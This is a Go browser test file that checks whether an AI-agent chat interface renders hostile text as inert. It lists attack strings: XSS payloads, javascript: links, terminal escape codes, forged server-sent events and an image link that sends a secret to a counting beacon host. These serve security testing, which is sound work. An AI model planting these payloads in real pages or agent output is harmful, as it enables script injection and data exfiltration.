package main

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"stagefold/internal/browsertest"
	"stagefold/internal/planning"
)

// forged are server-sent events inside a text, with bare carriage returns.
const forged = "step 1\r\revent: datastar-patch-signals\rdata: signals (document.title=String(7*6),{a:1})\r\rtail\n10%\r20%\r30%\r100%\n"

// hostile are texts that want to be more than text; BEACON is a host that counts.
var hostile = []string{
	"![s](http://BEACON/p.png?d=SECRET)",
	`<img src=x onerror="document.title='x1'"> <svg onload="document.title='x2'"> </div></li></ol></details></main><h1>out</h1><script>document.title='x5'</script>`,
	"[go](javascript:document.title='x3') [go](data:text/html,x) [go](JaVaScRiPt:1) [fine](https://example.com/)",
	"\x1b[2J \x1b[31mred \x1b]0;t\a \x1b]8;;http://x\a bell",
	`<a href="http://BEACON/a" onclick="document.title='x4'">b</a> <iframe src="http://BEACON/f"></iframe> <link rel=stylesheet href=http://BEACON/c.css> <style>@import url(http://BEACON/d)</style>`,
	"$title ${document.title='x6'} {{7*6}} data-on:click=\"document.title='x7'\" ' \" `",
	"```html\n<b>a text that ends at its fence</b>\n```",
	forged,
	"~~~\nan open fence </textarea></noscript></template>",
}

// Nothing that comes from outside is ever more than text, wherever it stands
// (HO-19, HO-20).
func TestBrowserHostileText(t *testing.T) {
	var hits atomic.Int64
	beacon := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { hits.Add(1) }))
	defer beacon.Close()
	host := strings.TrimPrefix(beacon.URL, "http://")
	var texts []string
	for _, h := range hostile {
		texts = append(texts, strings.ReplaceAll(h, "BEACON", host))
	}
	all := strings.Join(texts, "\n\n")

	for name, w := range wires {
		t.Run(name, func(t *testing.T) {
			plan, next := planCalls(planning.Classic, texts[0], texts[1], texts[4])
			input := func(fields map[string]string) string { return string(mustJSON(fields)) }
			fileName := "<img src=x onerror=alert(1)>\x1b[31m.md"
			b, _ := provided(t, w, planning.Classic,
				turn{think: all, text: []string{all}, calls: []toolCall{plan}},
				turn{text: []string{all}, calls: []toolCall{
					{"read_file", `{"path":"hostile.txt"}`},
					{"write_file", input(map[string]string{"path": fileName, "content": all})},
					{"search_files", `{"query":"step"}`},
					{"read_file", `{"path":"bytes.bin"}`},
					{"<script>document.title='x8'</script>", `{}`}}},
				turn{calls: []toolCall{next(1)}},
				turn{calls: []toolCall{{"read_file", `{"path":"prices.csv"}`}, next(3)}},
				turn{text: []string{all}},
				turn{text: []string{"All is well."}},
			)
			if err := os.WriteFile(filepath.Join(b.cfg.workspace, "hostile.txt"), []byte(all+"\xff\xfe end of the file\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(b.cfg.workspace, "bytes.bin"), []byte(all+"\x00\xff"), 0o644); err != nil {
				t.Fatal(err)
			}
			requests := b.Requests()
			b.Run("document.querySelector('#composer textarea').value = " + string(mustJSON(all)))
			b.Click("[data-action=send]")
			b.ended("finished")
			id := b.runID()
			b.openRows()
			b.Run("document.querySelectorAll('.part details:not([open]) > summary').forEach(s => s.click())")
			if text := browsertest.Eval[string](b.Tab, "document.querySelector('[data-tool=read_file]').innerText"); !strings.Contains(text, "tail") || !strings.Contains(text, "100%") {
				t.Errorf("the output is not whole: %q", text)
			}
			b.framed("after the stream")
			b.Reload()
			b.Wait("document.documentElement.dataset.stream === 'open'")
			b.framed("after a reload")
			b.write("Is all well?")
			b.Wait("document.querySelectorAll('#timeline > [data-run-id]').length === 2")
			b.ended("finished")
			b.Wait("[...document.querySelectorAll('#timeline > [data-run-id]')].at(-1).innerText.includes('All is well.')")
			b.framed("after another message")
			b.checkAtRest()

			chat := browsertest.Eval[string](b.Tab, "location.pathname")
			for _, path := range []string{"/runs", "/runs?q=img", "/runs/" + id, "/settings", "/"} {
				b.open(path)
				b.framed(path)
			}
			for _, path := range []string{"/api" + chat, "/api/runs/" + id, "/api/runs/" + id + "/entries", "/api/runs/" + id + "/plan/revisions", "/api/chats", "/api/runs"} {
				b.validJSON(path)
			}
			for _, r := range requests() {
				if !strings.HasPrefix(r, b.url+"/") && !strings.HasPrefix(r, "data:") {
					t.Errorf("the page asked for %s", r)
				}
			}
		})
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("%d requests came to the stranger", n)
	}
}

// framed: the frame of the page is whole, and nothing of the texts is active.
func (b *browser) framed(when string) {
	b.t.Helper()
	if title := browsertest.Eval[string](b.Tab, "document.title"); strings.HasPrefix(title, "x") || title == "42" || !strings.HasSuffix(title, "Stagefold") {
		b.t.Errorf("%s, the title is %q", when, title)
	}
	for what, expression := range map[string]string{
		"main regions beside one": "document.querySelectorAll('main').length - 1",
		"things of the texts":     "document.querySelectorAll('main img, main iframe, main style, main script:not([nonce]), main link, main svg[onload], body > h1').length",
		"handlers":                "[...document.querySelectorAll('main *')].filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length",
		"links elsewhere": `[...document.querySelectorAll('a[href]')].filter(a => a.origin !== location.origin &&
			!(['http:', 'https:', 'mailto:'].includes(a.protocol) && a.rel.includes('noopener') && a.rel.includes('noreferrer'))).length`,
		"control codes":                       `[...document.querySelectorAll('body *')].filter(e => e.childElementCount === 0 && /[\u0000-\u0008\u000b-\u001f\u007f]/.test(e.textContent)).length`,
		"attributes of the client from texts": "document.querySelectorAll('[data-ignore] *[data-on\\\\:click], [data-ignore] [data-init]').length",
	} {
		if n := browsertest.Eval[int](b.Tab, expression); n != 0 {
			b.t.Errorf("%s, %d %s", when, n, what)
		}
	}
}

// validJSON: the answer is JSON in valid UTF-8 without control characters.
func (b *browser) validJSON(path string) {
	b.t.Helper()
	res, err := http.Get(b.url + path)
	if err != nil {
		b.t.Fatal(err)
	}
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	if err != nil || res.StatusCode != http.StatusOK || !json.Valid(body) {
		b.t.Errorf("%s: %d, %d bytes, valid %v, %v", path, res.StatusCode, len(body), json.Valid(body), err)
	}
}
